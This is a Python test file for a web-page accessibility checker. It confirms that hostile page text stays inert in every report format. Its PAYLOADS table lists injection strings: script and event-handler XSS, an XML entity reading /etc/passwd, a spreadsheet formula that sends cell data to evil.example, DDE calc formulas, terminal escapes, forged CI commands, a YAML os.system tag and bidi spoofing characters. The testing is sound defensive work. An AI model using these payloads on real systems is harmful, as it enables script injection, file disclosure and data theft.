"""What a page chooses stays what it is in every format: text in its place, which changes nothing around it."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
import yaml
from lxml import etree
from markdown_it import MarkdownIt
from tests.reporters.test_formats import RULESET, written

from govpagecheck import Page, check_page, load_ruleset, parse_page
from govpagecheck.model import Finding, Ignored, Note, Outcome, PageReport, Report, RuleResult, Severity, Target, empty_facts
from govpagecheck.report_diff import Difference, compare
from govpagecheck.reporters import reporter_names

PAYLOADS = {
    "markup": "</code></pre></p></td></script></style></title></textarea>--><img src=x onerror=alert(1)><script>alert(1)</script>",
    "attributes": '" onmouseover="alert(1)" x=\'y\' autofocus=',
    "xml": ']]></failure><failure type="error"/>&lt;&entity;<!ENTITY x SYSTEM "file:///etc/passwd"><?php',
    "terminal": "\x1b]0;taken\x07\x1b[2J\x1b[31m\x9b2J\x08\x08\x7f\x00",
    "github": "::error file=a.py,line=1::taken",
    "github-lines": "x\n::set-output name=x::y\r\n  ::add-mask::a%0A::error::b\r::debug::c\x0b::debug::d\x85::debug::e\u2028::debug::f",
    "old-commands": "##[error]taken ##[add-matcher]x ##vso[task.setvariable variable=x]y ##teamcity[buildStatus status='SUCCESS']",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formulas": "+1+1\n=2\n-3\n@SUM(A1)\t=4,=5;=6",
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "bidi": "safe\u202etxt.exe\u2066\u2069\u200f\u061c\ufeff\u200b\u00ad\U000e0041",
    "markdown": "[x](javascript:alert(1)) ![](https://evil.example) @team #1 `**b**` | a |\n\n# H\n<!-- c\n- x ~~y~~",
    "yaml": '"\nlevel: supports\n- &a *a !!python/object/apply:os.system ["x"] #: {{ x }} %TAG\n---\n...',
    "json": '","outcome":"passed"}]}\n{"path":"forged"}\n\\u0022\\',
    "template": "{{ 7*7 }}{% for x in y %}{# c #}${7*7}<%= 7*7 %>",
    "address": "javascript:alert(1)//https://www.example.gov/",
    "surrogate": "\udc80\ud800",
}
HUGE = 1_000_000
WORD = "word"


def report_with(text: str) -> Report:
    """Return a report in which everything that a page, its name, its address or an exception may choose is this text."""
    place = Target(text, 3, 7, text)
    failed = [
        Finding(Outcome.FAILED, "any-reason", text, Severity.ERROR, place, "0123456789abcdef"),
        Finding(Outcome.FAILED, "any-reason", text, Severity.ERROR, Target("html", None, None, text), "0123456789abcde0"),
        Finding(Outcome.CANT_TELL, "needs-person", text, Severity.WARNING, place, "0123456789abcde1"),
        Finding(Outcome.FAILED, "other-reason", text, Severity.INFO, place, "0123456789abcde2", Ignored("page", text)),
    ]
    doubtful = [Finding(Outcome.CANT_TELL, "needs-person", text, Severity.ERROR, place, "0123456789abcde3")]
    excepted = [Finding(Outcome.FAILED, "other-reason", text, Severity.ERROR, place, "0123456789abcde4", Ignored("config", text))]
    rows = ((failed, Outcome.FAILED), (doubtful, Outcome.CANT_TELL), (excepted, Outcome.FAILED))
    rules = [RuleResult(rule.id, outcome, Severity.ERROR, some) for rule, (some, outcome) in zip(RULESET.rules, rows, strict=False)]
    facts = empty_facts() | {"title": text, "description": text, "lang": text}
    of_site = Finding(
        Outcome.FAILED,
        "any-reason",
        text,
        Severity.ERROR,
        Target("html", None, None, text, page=text.replace("://", ":")),
        "0123456789abcde5",
    )
    pages = [
        PageReport(text, None, rules, facts, [Note("unused-ignore", text)]),
        PageReport(None, f"https://www.example.gov/{text}", rules[:1], facts, [Note("check-crashed", text)]),
        PageReport(
            f"site:{text}", None, [RuleResult(RULESET.rules[3].id, Outcome.FAILED, Severity.ERROR, [of_site])], facts, (), scope="site"
        ),
    ]
    return Report(["us-federal"], RULESET.infos, pages, "0.1.0")


def check_data(text: str, harmless: str, payload: str) -> None:
    """Data in JSON: the same keys and kinds around it, and the text itself reads back as it was, escaped where it is written."""
    values, others = json.loads(text), json.loads(harmless)
    assert shape(values) == shape(others)
    assert payload in strings(values)


def check_lines_of_data(text: str, harmless: str, payload: str) -> None:
    assert text.count("\n") == harmless.count("\n")
    for line, other in zip(text.splitlines(), harmless.splitlines(), strict=True):
        check_data(line, other, payload)


def shape(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: shape(one) for key, one in value.items()}
    return [shape(one) for one in value] if isinstance(value, list) else type(value).__name__


def strings(value: Any) -> set[str]:
    if isinstance(value, dict):
        return {text for one in value.values() for text in strings(one)}
    return {text for one in value for text in strings(one)} if isinstance(value, list) else {str(value)}


def check_yaml(text: str, harmless: str, _: str) -> None:
    assert shape(yaml.safe_load(text)) == shape(yaml.safe_load(harmless))
    levels = [line.split()[-1] for line in text.splitlines() if line.strip().startswith("level:")]
    assert levels == [line.split()[-1] for line in harmless.splitlines() if line.strip().startswith("level:")]


def check_xml(text: str, harmless: str, _: str) -> None:
    def outline(root: etree._Element) -> Any:
        return root.tag, sorted(root.keys()), [outline(child) for child in root]

    parser = etree.XMLParser(resolve_entities=False)
    assert outline(etree.fromstring(text.encode("utf-8"), parser)) == outline(etree.fromstring(harmless.encode("utf-8"), parser))


def check_html(text: str, harmless: str, _: str) -> None:
    def outline(source: str) -> list[tuple[str, list[str]]]:
        # An address that a browser may not open is no link, what stands between backticks is code; all else is the same.
        rows = [(element.tag, sorted(element.keys())) for element in parse_page(source).select("*") if element.tag != "code"]
        return [("a or span", []) if row[0] in ("a", "span") else row for row in rows]

    document = parse_page(text)
    assert outline(text) == outline(harmless)
    assert len(document.select("script")) == len(document.select("style")) == 1
    assert document.select("script")[0].text == parse_page(harmless).select("script")[0].text
    assert not document.select("img, iframe, object, embed, base, link, [style], [src], [autofocus]")
    assert not [name for element in document.select("*") for name in map(str, element.keys()) if name.startswith("on")]
    assert all(re.match(r"https?://|#", link.get("href", "")) for link in document.select("a"))


def check_table(text: str, harmless: str, _: str) -> None:
    rows, others = (list(csv.reader(io.StringIO(one, newline=""), strict=True)) for one in (text, harmless))
    assert [len(row) for row in rows] == [len(row) for row in others]
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]
    assert not [cell for row in rows for cell in row if re.search(r"[\t\r\n]", cell)]


def keys(properties: str) -> list[str]:
    """Return the names as the runner reads them: between commas, up to the first equals sign."""
    return [one.partition("=")[0] for one in properties.split(",")]


def check_commands(text: str, harmless: str, _: str) -> None:
    command = re.compile(r"::(error|warning|notice)(?: ((?:[a-z]+=[^,:\r\n]*,?)+))?::[^\r\n]*\n")
    assert command.sub("", text) == ""
    words, others = ([(found[1], keys(found[2] or "")) for found in command.finditer(one)] for one in (text, harmless))
    assert words == others


def check_markdown(text: str, harmless: str, _: str) -> None:
    def outline(source: str) -> list[str]:
        markdown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
        tokens = [one for token in markdown.parse(source) for one in (token, *(token.children or ()))]
        return [token.type for token in tokens if token.type not in ("text", "text_special", "inline")]

    assert outline(text) == outline(harmless)
    assert not re.search(r"(?<!\\)@(?=\w)", text), "a mention"
    assert not re.search(r"(?<![\\#\w])#\d", text), "a reference"


def check_lines(text: str, harmless: str, payload: str) -> None:
    assert text.count("\n") == harmless.count("\n")
    assert len(text.splitlines()) == text.count("\n")
    indents, others = ([len(line) - len(line.lstrip()) for line in one.splitlines()] for one in (text, harmless))
    assert indents == others or payload[:1].isspace()


CHECKS: dict[str, Callable[[str, str, str], None]] = {
    "concise": check_lines,
    "csv": check_table,
    "earl": check_data,
    "github": check_commands,
    "gitlab": check_data,
    "html": check_html,
    "json": check_data,
    "jsonl": check_lines_of_data,
    "junit": check_xml,
    "markdown": check_markdown,
    "openacr": check_yaml,
    "sarif": check_data,
    "text": check_lines,
}
STEERING = re.compile(f"[{''.join(map(re.escape, map(chr, [*range(9), 11, 12, *range(14, 32), *range(127, 160)])))}]")


def test_no_format_is_left_out() -> None:
    assert sorted(CHECKS) == reporter_names()


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", sorted(CHECKS))
def test_text_of_a_page_stays_text(name: str, payload: str) -> None:
    text = written(name, report_with(PAYLOADS[payload]))
    if payload == "surrogate":  # as the command line's streams write them; JSON reads such escapes
        text = text.encode("utf-8", "backslashreplace").decode("utf-8")
    CHECKS[name](text, written(name, report_with(WORD)), PAYLOADS[payload])
    steers_nothing(name, text)


def steers_nothing(name: str, text: str) -> None:
    """No format holds a character that a terminal obeys or hides, or a line that a CI system takes for a command."""
    assert not STEERING.search(text)
    assert not {character for character in text if unicodedata.category(character) in ("Cf", "Zl", "Zp", "Cs")}
    assert not re.search(r"##(vso|teamcity)?\[", text, re.IGNORECASE)
    if name != "github":
        assert not [line for line in text.splitlines() if line.lstrip().startswith("::")]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_difference_of_reports_stays_one(payload: str) -> None:
    from govpagecheck.cli.difference import WRITERS

    hostile, harmless = (compare(Report([], {}, [], "1"), report_with(text)) for text in (PAYLOADS[payload], WORD))

    def told(name: str, difference: Difference) -> str:
        stream = io.StringIO()
        WRITERS[name](difference, stream)
        return stream.getvalue().encode("utf-8", "backslashreplace").decode("utf-8")

    steers_nothing("text", told("text", hostile))
    steers_nothing("json", told("json", hostile))
    steers_nothing("markdown", told("markdown", hostile))
    assert told("text", hostile).count("\n") == told("text", harmless).count("\n")
    check_markdown(told("markdown", hostile), told("markdown", harmless), PAYLOADS[payload])
    rows, others = (json.loads(told("json", difference)) for difference in (hostile, harmless))
    assert {name: len(some) for name, some in rows.items()} == {name: len(some) for name, some in others.items()}
    assert all(row["message"] == PAYLOADS[payload] for row in rows["new"])


def hostile_page(payload: str, length: int) -> bytes:
    """Return a page that writes the payload wherever a rule may quote it, each time `length` characters long."""
    words = (payload * (length // len(payload) + 1))[:length]
    value = words.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    return (
        f'<!doctype html><html lang="{value}"><head><title>{value}</title><meta name="description" content="{value}">'
        f'<meta property="og:title" content="{value}"><link rel="canonical" href="{value}"></head><body class="{value}">'
        f'<main id="{value}"><h1>{value}</h1><h4 title="{value}">{value}</h4><img src="{value}" id="a" class="{value}">'
        f'<a href="{value}" title="{value}"></a><a href="http://{value}">{value}</a><button name="{value}"></button>'
        f'<input type="{value}" name="{value}"><div role="{value}" aria-label="{value}" aria-{value[:9].split()[0]}="x" tabindex="0"></div>'
        f'<iframe src="{value}"></iframe><p>Last updated: {value}</p><time datetime="{value}">{value}</time>'
        f'<a href="#{value}">skip</a><label for="{value}">x</label><p lang="{value}" style="{value}">x</p>'
        f"<!-- govpagecheck-ignore-next image-alt: {words.replace('--', '- -')} --><img src=x></main></body></html>"
    ).encode("utf-8", "surrogatepass")


RULES = load_ruleset(["us-federal", "wcag22-aa", "best-practice"], today=date(2026, 6, 1))


@pytest.mark.parametrize("payload", ["markup", "terminal", "github", "formula", "bidi", "markdown", "old-commands"])
def test_a_hostile_page_as_it_is_judged(payload: str) -> None:
    words = PAYLOADS[payload].translate(dict.fromkeys([0, 7, 8, 127]))  # with which a page is none
    page = Page(hostile_page(words, 120), path=f"site/{PAYLOADS[payload]}.html", url="https://www.example.gov/a")
    report = Report(["us-federal"], RULES.infos, [check_page(page, RULES)], "0.1.0")
    assert sum(len(result.findings) for result in report.pages[0].results) > 20
    for name in reporter_names():
        text = written(name, report)
        steers_nothing(name, text)
        if name == "html":
            assert len(parse_page(text).select("script, img, iframe, [onerror], [onmouseover]")) == 1
        if name == "junit":
            assert {element.tag for element in etree.fromstring(text.encode()).iter()} <= {
                "testsuites",
                "testsuite",
                "testcase",
                "failure",
                "skipped",
                "error",
            }
        if name == "csv":
            assert not [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]


def test_attribute_values_of_a_megabyte_stay_out_of_every_report() -> None:
    page = Page(hostile_page("A=<b>\x1b ", HUGE), path="site/huge.html", url="https://www.example.gov/huge")
    small = Page(hostile_page("A=<b>\x1b ", 150), path="site/huge.html", url="https://www.example.gov/huge")
    huge, usual = (Report(["us-federal"], RULES.infos, [check_page(one, RULES, max_bytes=10**9)], "0.1.0") for one in (page, small))
    assert sum(len(result.findings) for result in huge.pages[0].results) > 20
    for name in reporter_names():
        assert len(written(name, huge)) < len(written(name, usual)) + 200_000, name
